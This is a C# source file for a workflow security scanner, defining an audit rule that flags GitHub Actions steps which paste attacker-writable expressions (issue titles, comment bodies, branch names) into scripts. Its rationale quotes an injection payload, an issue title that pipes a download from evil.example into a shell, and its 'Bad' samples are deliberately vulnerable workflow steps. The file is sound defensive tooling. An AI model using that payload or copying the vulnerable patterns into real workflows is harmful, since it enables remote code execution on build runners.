using Platform.Gate.Scanners.Workflows.Expressions;
using Pulumi.Policy;

namespace Platform.Gate.Scanners.Workflows.Audits;

internal sealed class ScriptInjection() : StepAudit(new()
{
    Name = "workflow-script-injection",
    Severity = Severity.High,
    Description = "Scripts are not put together from texts that anybody can write.",
    Rationale = "GitHub pastes an expression's text into the script before it runs: an issue titled `\"; curl evil.example | sh; \"` becomes commands.",
    Remediation = "Set an environment variable to the expression and use `\"$VARIABLE\"` in the script; in github-script read `process.env`.",
    Links = ["https://docs.github.com/en/actions/concepts/security/script-injections"],
})
{
    public override string Good => """
        - run: echo "$TITLE"
          env: { TITLE: '${{ github.event.issue.title }}' }
        - run: echo ${{ github.event.issue.number }} ${{ contains(github.event.issue.title, 'x') }} ${{ github.event.issue.title == 'x' && 'yes' || 'no' }}
        """;

    public override string Bad => """
        - run: |
            echo start
            echo ${{ github.event.issue.title }} # here
        - run: echo ${{ github['event']['comment'].body || 'none' }} # here
        - run: echo '${{ toJSON(github.event) }}' # here
        - env: { BRANCH: '${{ github.head_ref }}' }
          run: git log ${{ env.BRANCH }} # here
        - uses: actions/github-script@v8
          with:
            script: |
              console.log("${{ github.event.commits.*.message }}") # here
        """;

    protected override IEnumerable<Flaw> Judge(Step step, AuditContext context)
    {
        var analysis = new TaintAnalysis(step);
        foreach (var sink in ScriptSink.In(step, context.Repository))
        {
            foreach (var expansion in Expansion.In(sink.Text))
            {
                if (expansion.Expression is { } expression && analysis.Of(expression) == Taint.Attacker)
                    yield return step.Flaw(sink.Text, expansion.Start, expansion.Text, sink.Path, $"`{expansion.Text}` is text that anybody can write, and becomes part of a script");
            }
        }
    }
}
